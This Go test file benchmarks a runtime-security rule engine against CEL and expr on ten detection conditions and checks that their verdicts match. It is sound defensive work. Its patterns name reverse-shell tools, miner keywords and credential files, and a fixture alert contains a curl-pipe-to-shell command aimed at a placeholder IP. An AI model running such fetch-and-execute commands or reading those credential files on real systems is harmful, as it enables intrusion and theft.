package bench

import (
	"fmt"
	"net/netip"
	"testing"

	"github.com/expr-lang/expr"
	"github.com/expr-lang/expr/vm"
	"github.com/google/cel-go/cel"
	"github.com/google/cel-go/common/types"
	"github.com/google/cel-go/common/types/ref"
	"github.com/google/cel-go/ext"

	"github.com/falconer-go/falconer/event"
	"github.com/falconer-go/falconer/rules/cond"
)

// condition is the same question in three languages. f is the map of an
// alert's fields; one that is missing has the value that missing gives it, so
// that the others need not ask whether it is there.
type condition struct {
	name            string
	cond, cel, expr string
}

var conditions = []condition{
	{
		"Equal", `proc.name = sh`,
		`f["proc.name"] == "sh"`,
		`f["proc.name"] == "sh"`,
	},
	{
		"TenLeaves", `evt.type in (open, openat, openat2) and evt.is_open_write = true and fd.typechar = f
			and fd.num >= 0 and fd.name startswith /etc/ and not proc.name in (dpkg, rpm, yum, apt)
			and not proc.pname = ansible and not fd.name endswith .swp and not proc.cmdline contains "--dry-run"
			and user.uid = 0`,
		`f["evt.type"] in ["open", "openat", "openat2"] && f["evt.is_open_write"] == true && f["fd.typechar"] == "f"
			&& f["fd.num"] >= 0 && f["fd.name"].startsWith("/etc/") && !(f["proc.name"] in ["dpkg", "rpm", "yum", "apt"])
			&& f["proc.pname"] != "ansible" && !f["fd.name"].endsWith(".swp") && !f["proc.cmdline"].contains("--dry-run")
			&& f["user.uid"] == 0`,
		`f["evt.type"] in ["open", "openat", "openat2"] && f["evt.is_open_write"] == true && f["fd.typechar"] == "f"
			&& f["fd.num"] >= 0 && f["fd.name"] startsWith "/etc/" && not (f["proc.name"] in ["dpkg", "rpm", "yum", "apt"])
			&& f["proc.pname"] != "ansible" && not (f["fd.name"] endsWith ".swp") && not (f["proc.cmdline"] contains "--dry-run")
			&& f["user.uid"] == 0`,
	},
	{
		"Shell", `evt.type in (execve, execveat) and not container.id = host
			and proc.name in (ash, bash, csh, ksh, sh, tcsh, zsh, dash) and not proc.tty = 0`,
		`f["evt.type"] in ["execve", "execveat"] && f["container.id"] != "host"
			&& f["proc.name"] in ["ash", "bash", "csh", "ksh", "sh", "tcsh", "zsh", "dash"] && f["proc.tty"] != 0`,
		`f["evt.type"] in ["execve", "execveat"] && f["container.id"] != "host"
			&& f["proc.name"] in ["ash", "bash", "csh", "ksh", "sh", "tcsh", "zsh", "dash"] && f["proc.tty"] != 0`,
	},
	{
		"SensitiveFile", `(fd.name in (/etc/shadow, /etc/sudoers, /etc/pam.conf, /etc/security/pwquality.conf) or fd.name startswith /etc/sudoers.d
			or fd.name startswith /etc/pam.d) and not proc.name in (sshd, sudo, su, cron, crond, systemd, login, passwd, useradd, usermod)`,
		`(f["fd.name"] in ["/etc/shadow", "/etc/sudoers", "/etc/pam.conf", "/etc/security/pwquality.conf"] || f["fd.name"].startsWith("/etc/sudoers.d")
			|| f["fd.name"].startsWith("/etc/pam.d")) && !(f["proc.name"] in ["sshd", "sudo", "su", "cron", "crond", "systemd", "login", "passwd", "useradd", "usermod"])`,
		`(f["fd.name"] in ["/etc/shadow", "/etc/sudoers", "/etc/pam.conf", "/etc/security/pwquality.conf"] || f["fd.name"] startsWith "/etc/sudoers.d"
			|| f["fd.name"] startsWith "/etc/pam.d") && not (f["proc.name"] in ["sshd", "sudo", "su", "cron", "crond", "systemd", "login", "passwd", "useradd", "usermod"])`,
	},
	{
		"Needles", `proc.cmdline contains anyof (curl, wget, "nc -e", "bash -i", /dev/tcp, base64, "chmod +x", xmrig, stratum, "python -c", "perl -e", socat)`,
		`["curl", "wget", "nc -e", "bash -i", "/dev/tcp", "base64", "chmod +x", "xmrig", "stratum", "python -c", "perl -e", "socat"].exists(n, f["proc.cmdline"].contains(n))`,
		`any(["curl", "wget", "nc -e", "bash -i", "/dev/tcp", "base64", "chmod +x", "xmrig", "stratum", "python -c", "perl -e", "socat"], {f["proc.cmdline"] contains #})`,
	},
	{
		"Regex", `proc.cmdline regex '.*(curl|wget) .*[|] *(ba)?sh.*'`,
		`f["proc.cmdline"].matches("^.*(curl|wget) .*[|] *(ba)?sh.*$")`,
		`f["proc.cmdline"] matches "^.*(curl|wget) .*[|] *(ba)?sh.*$"`,
	},
	{
		"Glob", `fd.name glob "/home/*/.ssh/*" or fd.name glob "*.pem"`,
		`f["fd.name"].matches("^/home/.*/[.]ssh/.*$") || f["fd.name"].matches("^.*[.]pem$")`,
		`f["fd.name"] matches "^/home/.*/[.]ssh/.*$" || f["fd.name"] matches "^.*[.]pem$"`,
	},
	{
		"Network", `fd.sport in (22, 3389, 4444, 5985) and not fd.snet in (10.0.0.0/8, 192.168.0.0/16)`,
		`f["fd.sport"] in [22, 3389, 4444, 5985] && !private(f["fd.sip"])`,
		`f["fd.sport"] in [22, 3389, 4444, 5985] && not private(f["fd.sip"])`,
	},
	{
		"List", `ka.verb in (create, update) and ka.target.resource = pods and ka.user.groups intersects (system:unauthenticated, developers)`,
		`f["ka.verb"] in ["create", "update"] && f["ka.target.resource"] == "pods" && f["ka.user.groups"].exists(g, g in ["system:unauthenticated", "developers"])`,
		`f["ka.verb"] in ["create", "update"] && f["ka.target.resource"] == "pods" && any(f["ka.user.groups"], {# in ["system:unauthenticated", "developers"]})`,
	},
	{
		"Lower", `tolower(proc.exepath) endswith /python or tolower(proc.cmdline) contains miner`,
		`f["proc.exepath"].lowerAscii().endsWith("/python") || f["proc.cmdline"].lowerAscii().contains("miner")`,
		`lower(f["proc.exepath"]) endsWith "/python" || lower(f["proc.cmdline"]) contains "miner"`,
	},
}

// missing is what a field that an alert does not have is in the map.
var missing = map[string]any{
	"evt.type": "", "evt.is_open_write": false, "fd.typechar": "", "fd.num": int64(-1), "fd.name": "", "proc.name": "",
	"proc.pname": "", "proc.cmdline": "", "user.uid": int64(-1), "container.id": "", "proc.tty": int64(-1), "fd.sport": int64(-1),
	"fd.sip": "", "ka.verb": "", "ka.target.resource": "", "ka.user.groups": []string{}, "proc.exepath": "",
}

// fieldMap is an alert as the others take it.
func fieldMap(e *event.Event) map[string]any {
	f := map[string]any{}
	for name, v := range missing {
		f[name] = v
		got := e.Fields.Get(name)
		switch v.(type) {
		case string:
			if s, ok := got.Str(); ok {
				f[name] = s
			}
		case int64:
			if n, ok := got.Int(); ok {
				f[name] = n
			}
		case bool:
			if b, ok := got.Bool(); ok {
				f[name] = b
			}
		case []string:
			if list, ok := got.Strings(); ok {
				f[name] = list
			}
		}
	}
	return f
}

var privateNets = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("192.168.0.0/16")}

func private(ip string) bool {
	a, err := netip.ParseAddr(ip)
	if err != nil {
		return false
	}
	for _, p := range privateNets {
		if p.Contains(a) {
			return true
		}
	}
	return false
}

func celProgram(tb testing.TB, text string) func(map[string]any) bool {
	tb.Helper()
	env, err := cel.NewEnv(ext.Strings(), cel.Variable("f", cel.MapType(cel.StringType, cel.DynType)),
		cel.Function("private", cel.Overload("private_string", []*cel.Type{cel.DynType}, cel.BoolType,
			cel.UnaryBinding(func(v ref.Val) ref.Val {
				s, _ := v.(types.String)
				return types.Bool(private(string(s)))
			}))))
	if err != nil {
		tb.Fatal(err)
	}
	ast, issues := env.Compile(text)
	if issues.Err() != nil {
		tb.Fatal(issues.Err())
	}
	p, err := env.Program(ast, cel.EvalOptions(cel.OptOptimize))
	if err != nil {
		tb.Fatal(err)
	}
	return func(vars map[string]any) bool {
		v, _, err := p.Eval(vars)
		if err != nil {
			tb.Fatal(err)
		}
		return v == types.True
	}
}

func exprProgram(tb testing.TB, text string) func(map[string]any) bool {
	tb.Helper()
	p, err := expr.Compile(text, expr.AsBool(), expr.Env(map[string]any{"f": map[string]any{}, "private": func(any) bool { return false }}))
	if err != nil {
		tb.Fatal(err)
	}
	var m vm.VM
	return func(vars map[string]any) bool {
		v, err := m.Run(p, vars)
		if err != nil {
			tb.Fatal(err)
		}
		return v.(bool)
	}
}

// subjects are alerts in both forms.
type subjects struct {
	events []*event.Event
	vars   []map[string]any
}

// opens is an alert that passes each check of TenLeaves, so that the sample is
// not all alerts that fail at the first.
const opens = `{"output":"o","priority":"Error","rule":"Write below etc","source":"syscall","time":"2026-01-02T03:04:05.123456789Z",
	"output_fields":{"container.id":"0123456789ab","container.name":"web","evt.is_open_write":true,"evt.time":1767323045123456789,
	"evt.type":"openat","fd.name":"/etc/cron.d/job","fd.num":5,"fd.typechar":"f","k8s.ns.name":"shop","k8s.pod.name":"web-0",
	"proc.aname[2]":"containerd-shim","proc.cmdline":"sh -c curl http://203.0.113.9/x | sh","proc.exepath":"/bin/dash",
	"proc.name":"sh","proc.pname":"nginx","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0}}`

func loadSubjects(tb testing.TB) subjects {
	tb.Helper()
	var s subjects
	w := load(tb)
	for _, alert := range append(w.alerts, []byte(opens)) {
		e, err := event.Parse(alert)
		if err != nil {
			continue // decoding has a benchmark of its own
		}
		s.events = append(s.events, e)
		s.vars = append(s.vars, map[string]any{"f": fieldMap(e), "private": func(v any) bool { s, _ := v.(string); return private(s) }})
	}
	return s
}

// TestSameVerdicts holds the three languages to the same answers, without
// which their speed means nothing.
func TestSameVerdicts(t *testing.T) {
	s := loadSubjects(t)
	matched := 0
	for _, c := range conditions {
		p, err := cond.Compile(c.cond, nil)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		celMatch, exprMatch := celProgram(t, c.cel), exprProgram(t, c.expr)
		for i, e := range s.events {
			got := [3]bool{p.Match(e), celMatch(s.vars[i]), exprMatch(s.vars[i])}
			if got != [3]bool{got[0], got[0], got[0]} {
				t.Errorf("%s: cond, cel, expr say %v of %v", c.name, got, s.vars[i]["f"])
			}
			if got[0] {
				matched++
			}
		}
	}
	if matched < len(conditions)/2 {
		t.Errorf("only %d matches", matched)
	}
}

// BenchmarkCondition evaluates each condition on every alert; one operation is
// one evaluation, and All is a mean over the ten.
func BenchmarkCondition(b *testing.B) {
	s := loadSubjects(b)
	engines := []struct {
		name    string
		compile func(c condition) func(i int) bool
	}{
		{"cond", func(c condition) func(int) bool {
			p := cond.MustCompile(c.cond)
			return func(i int) bool { return p.Match(s.events[i]) }
		}},
		{"cel", func(c condition) func(int) bool {
			match := celProgram(b, c.cel)
			return func(i int) bool { return match(s.vars[i]) }
		}},
		{"expr", func(c condition) func(int) bool {
			match := exprProgram(b, c.expr)
			return func(i int) bool { return match(s.vars[i]) }
		}},
	}
	for _, engine := range engines {
		var all []func(int) bool
		for _, c := range conditions {
			match := engine.compile(c)
			all = append(all, match)
			b.Run(fmt.Sprintf("%s/%s", c.name, engine.name), func(b *testing.B) {
				b.ReportAllocs()
				for i := 0; b.Loop(); i++ {
					match(i % len(s.events))
				}
			})
		}
		b.Run("TenLeavesPassed/"+engine.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				all[1](len(s.events) - 1)
			}
		})
		b.Run("All/"+engine.name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				all[i%len(all)](i / len(all) % len(s.events))
			}
		})
	}
}
